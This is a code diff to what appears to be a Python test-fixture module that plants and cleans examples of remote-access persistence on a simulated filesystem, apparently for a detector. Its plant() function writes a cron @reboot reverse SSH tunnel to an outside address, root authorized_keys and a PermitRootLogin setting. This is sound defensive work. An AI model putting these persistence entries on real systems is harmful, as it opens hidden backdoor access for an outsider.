@@ -1,4 +1,4 @@
-"""Ways into a machine from elsewhere, as ssh-keygen, crontab's files, systemctl, dconf and nmcli leave them."""
+"""Ways into a machine from elsewhere, as ssh-keygen, systemctl, dconf and nmcli leave them."""
 
 from __future__ import annotations
 
@@ -79,8 +79,8 @@ def plant(tree: Tree) -> None:
     tree.write("/root/.ssh/authorized_keys", ROOTS, 0o600)
     _ssh_server(tree, "PermitRootLogin yes\n")
     tree.write(
-        "/var/spool/cron/crontabs/alice",
-        "@reboot /usr/bin/ssh -N -R 2222:localhost:22 sam@203.0.113.7\n",
+        "/etc/cron.d/relay",
+        "@reboot alice /usr/bin/ssh -N -R 2222:localhost:22 sam@203.0.113.7\n",
         0o600,
     )
     tree.write(
@@ -130,7 +130,7 @@ def clean(tree: Tree) -> None:
         "~/.ssh/authorized_keys", f'command="rrsync /home/alice/backup",restrict {OWN}' if OWN else "", 0o600
     )
     _ssh_server(tree, "")
-    tree.write("/var/spool/cron/crontabs/alice", "@daily ssh -L 8080:localhost:80 example.org true\n", 0o600)
+    tree.write("/etc/cron.d/relay", "@daily alice ssh -L 8080:localhost:80 example.org true\n", 0o600)
     tree.write("~/.ssh/config", "Host nas\n  HostName nas.local\n  LocalForward 8080 localhost:80\n", 0o600)
     tree.write(
         "~/.config/autostart/help.desktop",
